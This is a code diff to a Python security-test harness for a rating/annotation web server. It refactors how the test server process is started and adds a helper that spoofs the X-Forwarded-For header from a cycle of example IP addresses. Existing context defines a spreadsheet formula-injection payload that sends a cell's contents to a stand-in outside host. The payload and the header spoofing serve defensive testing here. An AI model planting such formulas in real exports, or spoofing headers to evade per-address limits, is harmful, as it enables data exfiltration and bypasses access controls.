@@ -5,12 +5,11 @@ study, attention checks, one rater, and texts full of markup.
 """
 
 import contextlib
+import itertools
 import json
 import os
 import re
 import signal
-import subprocess
-import sys
 import time
 import uuid
 from collections.abc import Iterator
@@ -21,6 +20,7 @@ from typing import Any
 
 import httpx
 from app_server import free_port
+from programs import Script
 
 from annotation.criteria import DEFAULT_CRITERIA
 from annotation.records import NewOutput, NewStudy
@@ -43,6 +43,10 @@ MARKUP = (
 FORMULA = '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")'
 
 
+# Of the ranges kept for examples.
+ADDRESSES = itertools.cycle(f"{network}.{host}" for network in ("203.0.113", "198.51.100") for host in range(1, 255))
+
+
 @dataclass
 class Target:
     """The running server."""
@@ -52,7 +56,7 @@ class Target:
     rater: str  # token of a rater of the frozen study
     pseudonym: str
     invitation: str
-    process: "subprocess.Popen[bytes]"
+    process: Script
     client: httpx.Client
     config: dict[str, Any] = field(default_factory=dict)
 
@@ -64,6 +68,10 @@ class Target:
     def store(self) -> RatingStore:
         """The same database, opened from outside to look at it."""
         return RatingStore.open(self.data / "ratings.db")
+
+    def another_visitor(self) -> None:
+        """Requests come from another address from now on."""
+        self.client.headers["X-Forwarded-For"] = next(ADDRESSES)
 
     def post(self, path: str, token: str | None = None, **body: Any) -> httpx.Response:
         """A request of the raters' page."""
@@ -139,15 +147,8 @@ def attacked(folder: Path, **environment: str) -> Iterator[Target]:
     data.mkdir()
     rater, pseudonym, invitation = fill(data / "ratings.db")
     port = free_port()
-    command = [
-        sys.executable,
-        str(ROOT / "tests" / "security" / "attacked_server.py"),
-        "--port",
-        str(port),
-        "--data",
-        str(data),
-        "--public",
-    ]
+    script = ROOT / "tests" / "security" / "attacked_server.py"
+    arguments = ["--port", str(port), "--data", str(data), "--public"]
     inherited = {name: value for name, value in os.environ.items() if not name.startswith(("AGL_", "PYTHONPATH"))}
     own = {
         "HF_HUB_OFFLINE": "1",
@@ -158,11 +159,8 @@ def attacked(folder: Path, **environment: str) -> Iterator[Target]:
         **environment,
     }
     url = f"http://127.0.0.1:{port}"
-    with (
-        (folder / "log").open("wb") as log,
-        subprocess.Popen(command, cwd=folder, env={**inherited, **own}, stdout=log, stderr=log) as process,
-        httpx.Client(base_url=url, timeout=120) as client,
-    ):
+    process = Script(script, arguments, folder=folder, environment={**inherited, **own}, log=folder / "log")
+    with httpx.Client(base_url=url, timeout=120) as client:
         target = Target(url, data, rater, pseudonym, invitation, process, client)
         try:
             _wait(target)
